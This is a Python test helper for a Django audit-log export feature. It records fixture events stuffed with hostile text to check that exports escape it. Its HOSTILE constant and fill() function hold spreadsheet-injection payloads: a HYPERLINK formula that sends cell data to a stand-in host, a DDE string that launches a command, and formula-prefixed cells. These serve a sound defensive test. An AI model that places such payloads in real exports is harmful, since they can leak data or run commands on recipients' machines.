"""Makes a log of all kinds of events, and exports it."""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

from django.db import connection

from killswitch.audit.actors import Actor
from killswitch.audit.chain import NewEvent
from killswitch.audit.export import export
from killswitch.audit.export.formats import ExportFormat
from killswitch.audit.filters import EventFilter
from killswitch.audit.models import AuditEvent, EventKind
from tests.audit.log import record
from tools import verify_export

CARL = Actor(name="Carl Ito (carl)", role="COMPLIANCE")
OLGA = Actor(name="Olga Ray (olga)", role="RISK_OFFICER")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = ("\x00\x1b[31m", "é漢字🛑\u2028", '"quoted", \\back\\', "a;=1+1", "+1\r\n-2\t@3", FORMULA)
REQUEST = "0b8e1c9a-5c0f-4a9e-9a3e-3f1f6f1f0001"


@dataclass(frozen=True, kw_only=True)
class Exported:
    """A finished export, as bytes."""

    content: bytes

    @property
    def lines(self) -> list[bytes]:
        return self.content.splitlines(keepends=True)

    @property
    def records(self) -> list[dict[str, Any]]:
        return [json.loads(line) for line in self.lines]

    @property
    def header(self) -> dict[str, Any]:
        return self.records[0]

    @property
    def events(self) -> list[dict[str, Any]]:
        return self.records[1:-1]

    @property
    def manifest(self) -> dict[str, Any]:
        return self.records[-1]


def begin(layout: ExportFormat = ExportFormat.JSONL, **selected: Any) -> export.Export:
    """Begin an export by Carl."""
    return export.begin(
        selection=EventFilter(**selected), layout=layout, who=CARL, origin={"address": "10.0.0.7"}
    )


def exported(layout: ExportFormat = ExportFormat.JSONL, **selected: Any) -> Exported:
    """Export to the end."""
    return Exported(content=b"".join(begin(layout, **selected).stream()))


def fill(presses: int = 3) -> None:
    """Record some requests with their outcomes, with hostile text in all text columns."""
    for number in range(presses):
        exchange = ("KRAKEN", "KRAKEN/JOHN", "=cmd|' /C calc'!A0")[number % 3]
        words = HOSTILE[number % len(HOSTILE)]
        of_request: dict[str, Any] = {
            "exchange_id": exchange,
            "request_id": f"{REQUEST[:-1]}{number % 10}",
        }
        record(
            NewEvent(kind=EventKind.REQUESTED, actor=OLGA, status="REQUESTED", **of_request),
            NewEvent(
                kind=EventKind.ATTEMPT,
                status="SENDING",
                reject_reason="OTHER" if number % 2 else "@SUM(1)",
                data={"message": words, "number": number, "none": None, "true": True},
                **of_request,
            ),
            NewEvent(
                kind=EventKind.FINISHED,
                status="REJECTED" if number % 2 else "CONFIRMED",
                data={"remaining": [{"symbol": words}, {"symbol": "-1"}]},
                **of_request,
            ),
        )


def rows() -> list[AuditEvent]:
    """Return all events."""
    return list(AuditEvent.objects.order_by("seq"))


@contextmanager
def nothing_can_be_written() -> Iterator[None]:
    """Make the database read-only; on PostgreSQL until the test's transaction ends."""
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            cursor.execute("SET TRANSACTION READ ONLY")
            yield
            return
        cursor.execute("PRAGMA query_only = ON")
        try:
            yield
        finally:
            cursor.execute("PRAGMA query_only = OFF")


def unescape(cell: str) -> str:
    """Return the exact text of a cell, as the auditor's verifier restores it."""
    return verify_export.ESCAPE.sub(r"\1\2", cell)
